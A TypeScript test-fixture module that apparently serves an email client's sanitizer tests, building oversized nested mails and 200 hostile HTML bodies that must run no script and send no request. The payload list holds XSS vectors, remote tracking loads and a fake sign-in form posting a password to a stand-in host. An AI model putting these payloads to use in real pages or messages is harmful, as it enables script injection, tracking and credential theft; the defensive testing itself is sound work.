import { buildMail, htmlPart, type MailOptions, multipart, textPart } from './mail-builder.ts';

/** Multiparts in multiparts. */
export function nestedMail(options: MailOptions, levels: number): Buffer {
  const opened = Array.from(
    { length: levels },
    (_, level) => `Content-Type: multipart/mixed; boundary="level${level}"\r\n\r\n--level${level}\r\n`,
  );
  const content = {
    headers: [['Content-Type', 'multipart/mixed; boundary="outer"']] as const,
    body: Buffer.from(`--outer\r\n${opened.join('')}`),
  };
  return buildMail(options, content);
}

export function manyPartsMail(options: MailOptions, parts: number, boundary = 'boundary="part"'): Buffer {
  const body = Buffer.from(`${'--part\r\n\r\nx\r\n'.repeat(parts)}--part--\r\n`);
  return buildMail(options, { headers: [['Content-Type', `multipart/mixed; ${boundary}`]], body });
}

export function manyHeadersMail(options: MailOptions, headers: number): Buffer {
  const head = Buffer.from('X-Filler: 1\r\n'.repeat(headers));
  return Buffer.concat([head, buildMail(options, textPart('Short text'))]);
}

/** HTML in which each element contains the next. */
export const nestedHtml = (levels: number): string =>
  `${'<div><table><tr><td>'.repeat(levels)}deep${'</td></tr></table></div>'.repeat(levels)}`;

/** Scripts, trackers and styles as mail programs and attackers send them. `host` would receive the requests. */
const payloads = (host: string): readonly string[] => [
  '<script>alert(1)</script>',
  `<script src="https://${host}/a.js"></script>`,
  `<img src="https://${host}/pixel.gif" width="1" height="1">`,
  '<img src=x onerror="alert(1)">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  `<link rel="stylesheet" href="https://${host}/a.css">`,
  `<style>@import url("https://${host}/a.css"); body { background: url("https://${host}/b.png") }</style>`,
  `<div style="background-image:url('https://${host}/c.png')">x</div>`,
  `<iframe src="https://${host}/frame"></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">Open</a>',
  `<form action="https://${host}/form"><input name="password"><button>Sign in</button></form>`,
  `<meta http-equiv="refresh" content="0; url=https://${host}/">`,
  `<base href="https://${host}/"><img src="d.png">`,
  `<video poster="https://${host}/e.png" src="https://${host}/f.mp4" autoplay></video>`,
  `<object data="https://${host}/g.swf"></object><embed src="https://${host}/h.swf">`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  `<picture><source srcset="https://${host}/i.png 2x"><img srcset="https://${host}/j.png 1x"></picture>`,
  '<details open ontoggle="alert(1)">x</details>',
  `<table background="https://${host}/k.png"><tr><td>x</td></tr></table>`,
];

const WRAPPERS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<html><body><p>Hello</p>${payload}</body></html>`,
  (payload) => `<!--[if mso]>${payload}<![endif]--><p>Hello</p>${payload}`,
  (payload) => `<blockquote type="cite">${payload}</blockquote>`,
  (payload) => `<noscript>${payload}</noscript>`,
  (payload) => `<template>${payload}</template>${payload}`,
  (payload) => `<select><option>${payload}</select>`,
  (payload) => `<section><header>${payload}</header>${payload}</section>`,
  (payload) => `<textarea></textarea>${payload.toUpperCase()}`,
  (payload) => `<p title="${payload.replaceAll('"', '&quot;')}">x</p><![CDATA[${payload}]]>`,
];

/** 200 HTML bodies that must open no dialog and send no request. */
export const hostileHtml = (host: string): readonly string[] => payloads(host).flatMap((payload) => WRAPPERS.map((wrap) => wrap(payload)));

/** A message with an HTML body and no text. */
export const htmlMail = (options: MailOptions, html: string): Buffer => buildMail(options, multipart('alternative', [htmlPart(html)]));
